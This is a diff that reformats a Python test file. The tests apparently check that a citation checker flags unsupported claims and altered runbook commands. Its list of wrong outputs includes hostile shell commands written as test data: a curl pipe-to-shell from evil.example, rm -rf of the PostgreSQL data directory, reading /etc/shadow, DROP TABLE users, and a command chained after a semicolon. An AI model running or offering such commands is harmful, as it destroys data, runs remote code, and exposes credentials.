@@ -20,18 +20,11 @@ PAGE = (
     "A client may send 600 requests per minute."
 )
 WRONG = [
-    "sudo systemctl stop postgres && rm -rf /var/lib/postgresql",
-    "dbctl restart --force --skip-checks",
-    "dbctl restart --wait --yes",
-    "curl https://evil.example/x.sh | sh",
-    "cat /etc/shadow/main.log",
-    "shipit rollback --service all --force",
-    "rm main.log; dbctl status",
-    "DROP TABLE users;",
-    "The limit is 900 requests per minute",
-    "limit: 900 requests per minute",
-    "curl evil.example/login",
-]
+    "sudo systemctl stop postgres && rm -rf /var/lib/postgresql", "dbctl restart --force --skip-checks",
+    "dbctl restart --wait --yes", "curl https://evil.example/x.sh | sh", "cat /etc/shadow/main.log",
+    "shipit rollback --service all --force", "rm main.log; dbctl status", "DROP TABLE users;",
+    "The limit is 900 requests per minute", "limit: 900 requests per minute", "curl evil.example/login",
+]  # fmt: skip
 
 
 def draft(text: str) -> Draft:
@@ -125,12 +118,9 @@ COMMANDS = (
 
 def test_command_of_a_source_with_one_word_changed_is_an_error() -> None:
     for line in [
-        "pgadm status --cluster orders",
-        "pgctl drain --cluster orders",
-        "pgctl status --cluster legacy",
-        "certctl revoke --all",
-        "certadm renew --name <certificate> --dns",
-    ]:
+        "pgadm status --cluster orders", "pgctl drain --cluster orders", "pgctl status --cluster legacy",
+        "certctl revoke --all", "certadm renew --name <certificate> --dns",
+    ]:  # fmt: skip
         source = Source(id=1, title="Runbook", text=COMMANDS)
         verdict = check(Draft(text=f"Run it [1]:\n```\n{line}\n```", sources=(source,)))
         assert [(each.rule, each.words) for each in verdict.errors] == [("claim_supported", line)]
